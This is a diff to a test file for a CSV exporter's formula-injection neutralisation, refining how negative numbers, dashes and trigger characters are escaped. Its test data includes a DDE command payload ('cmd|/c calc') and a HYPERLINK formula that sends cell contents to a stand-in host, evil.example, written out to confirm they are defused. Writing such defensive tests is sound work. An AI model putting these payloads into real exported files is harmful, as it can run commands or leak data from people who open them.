@@ -18,7 +18,12 @@ describe('CSV formula neutralisation (OWASP CSV injection; PITFALLS C1)', () => 
     ['@SUM(A1)', text('@SUM(A1)'), `"'@SUM(A1)"`],
     ['a leading TAB', text('\t=1'), `"'\t=1"`],
     ['an international phone', text('+86 138 0013 8000'), `"'+86 138 0013 8000"`],
-    ['a minus as text', text('-5'), `"'-5"`],
+    ['a negative number typed as text is no formula', text('-5'), '-5'],
+    ['-1,200.50 typed as text', text('-1,200.50'), '"-1,200.50"'],
+    ['a lone dash or two ("none")', text('--'), '--'],
+    ['a minus before a formula', text('-1+cmd|"/c calc"!A0'), `"'-1+cmd|""/c calc""!A0"`],
+    ['a minus before a name', text('-张伟'), `"'-张伟"`],
+    ['a plus before digits: Excel would read a number and drop the +', text('+8613812345678'), `"'+8613812345678"`],
     ['a HYPERLINK that could leak data', text('=HYPERLINK("http://evil.example/?"&A1,"点击")'), `"'=HYPERLINK(""http://evil.example/?""&A1,""点击"")"`],
     ['-5 as a number is a value, not a formula', num(-5), '-5'],
     ['an amount', num(12800.5), '12800.5'],
@@ -38,13 +43,14 @@ describe('CSV formula neutralisation (OWASP CSV injection; PITFALLS C1)', () => 
     expect(csv).toBe(`\uFEFF"'=1"\r\n"'=2"\r\n"'=3"\r\n`);
   });
 
-  it('never lets a string start with a trigger unquoted or unescaped', () => {
+  it('never lets a string start with a trigger unquoted or unescaped, but a negative number or dashes', () => {
     fc.assert(
-      fc.property(fc.array(fc.string({ maxLength: 12 }), { minLength: 1, maxLength: 5 }), (values) => {
+      fc.property(fc.array(fc.oneof(fc.string({ maxLength: 12 }), fc.stringMatching(/^-[\d,.%-]{0,6}$/)), { minLength: 1, maxLength: 5 }), (values) => {
         const csv = unparseCells([values.map(text)]);
         const parsed = readCsv(new TextEncoder().encode(csv), 'x.csv').cells[0] ?? [];
         parsed.forEach((cell) => {
-          if (cell.kind === 'text') expect(/^[=+\-@\t\r\n]/.test(cell.value)).toBe(false);
+          if (cell.kind !== 'text' || /^-\d[\d,]*(?:\.\d+)?%?$|^-+$/.test(cell.value)) return;
+          expect(/^[=+\-@\t\r\n]/.test(cell.value)).toBe(false);
         });
       }),
       { seed: 7, numRuns: 300 },
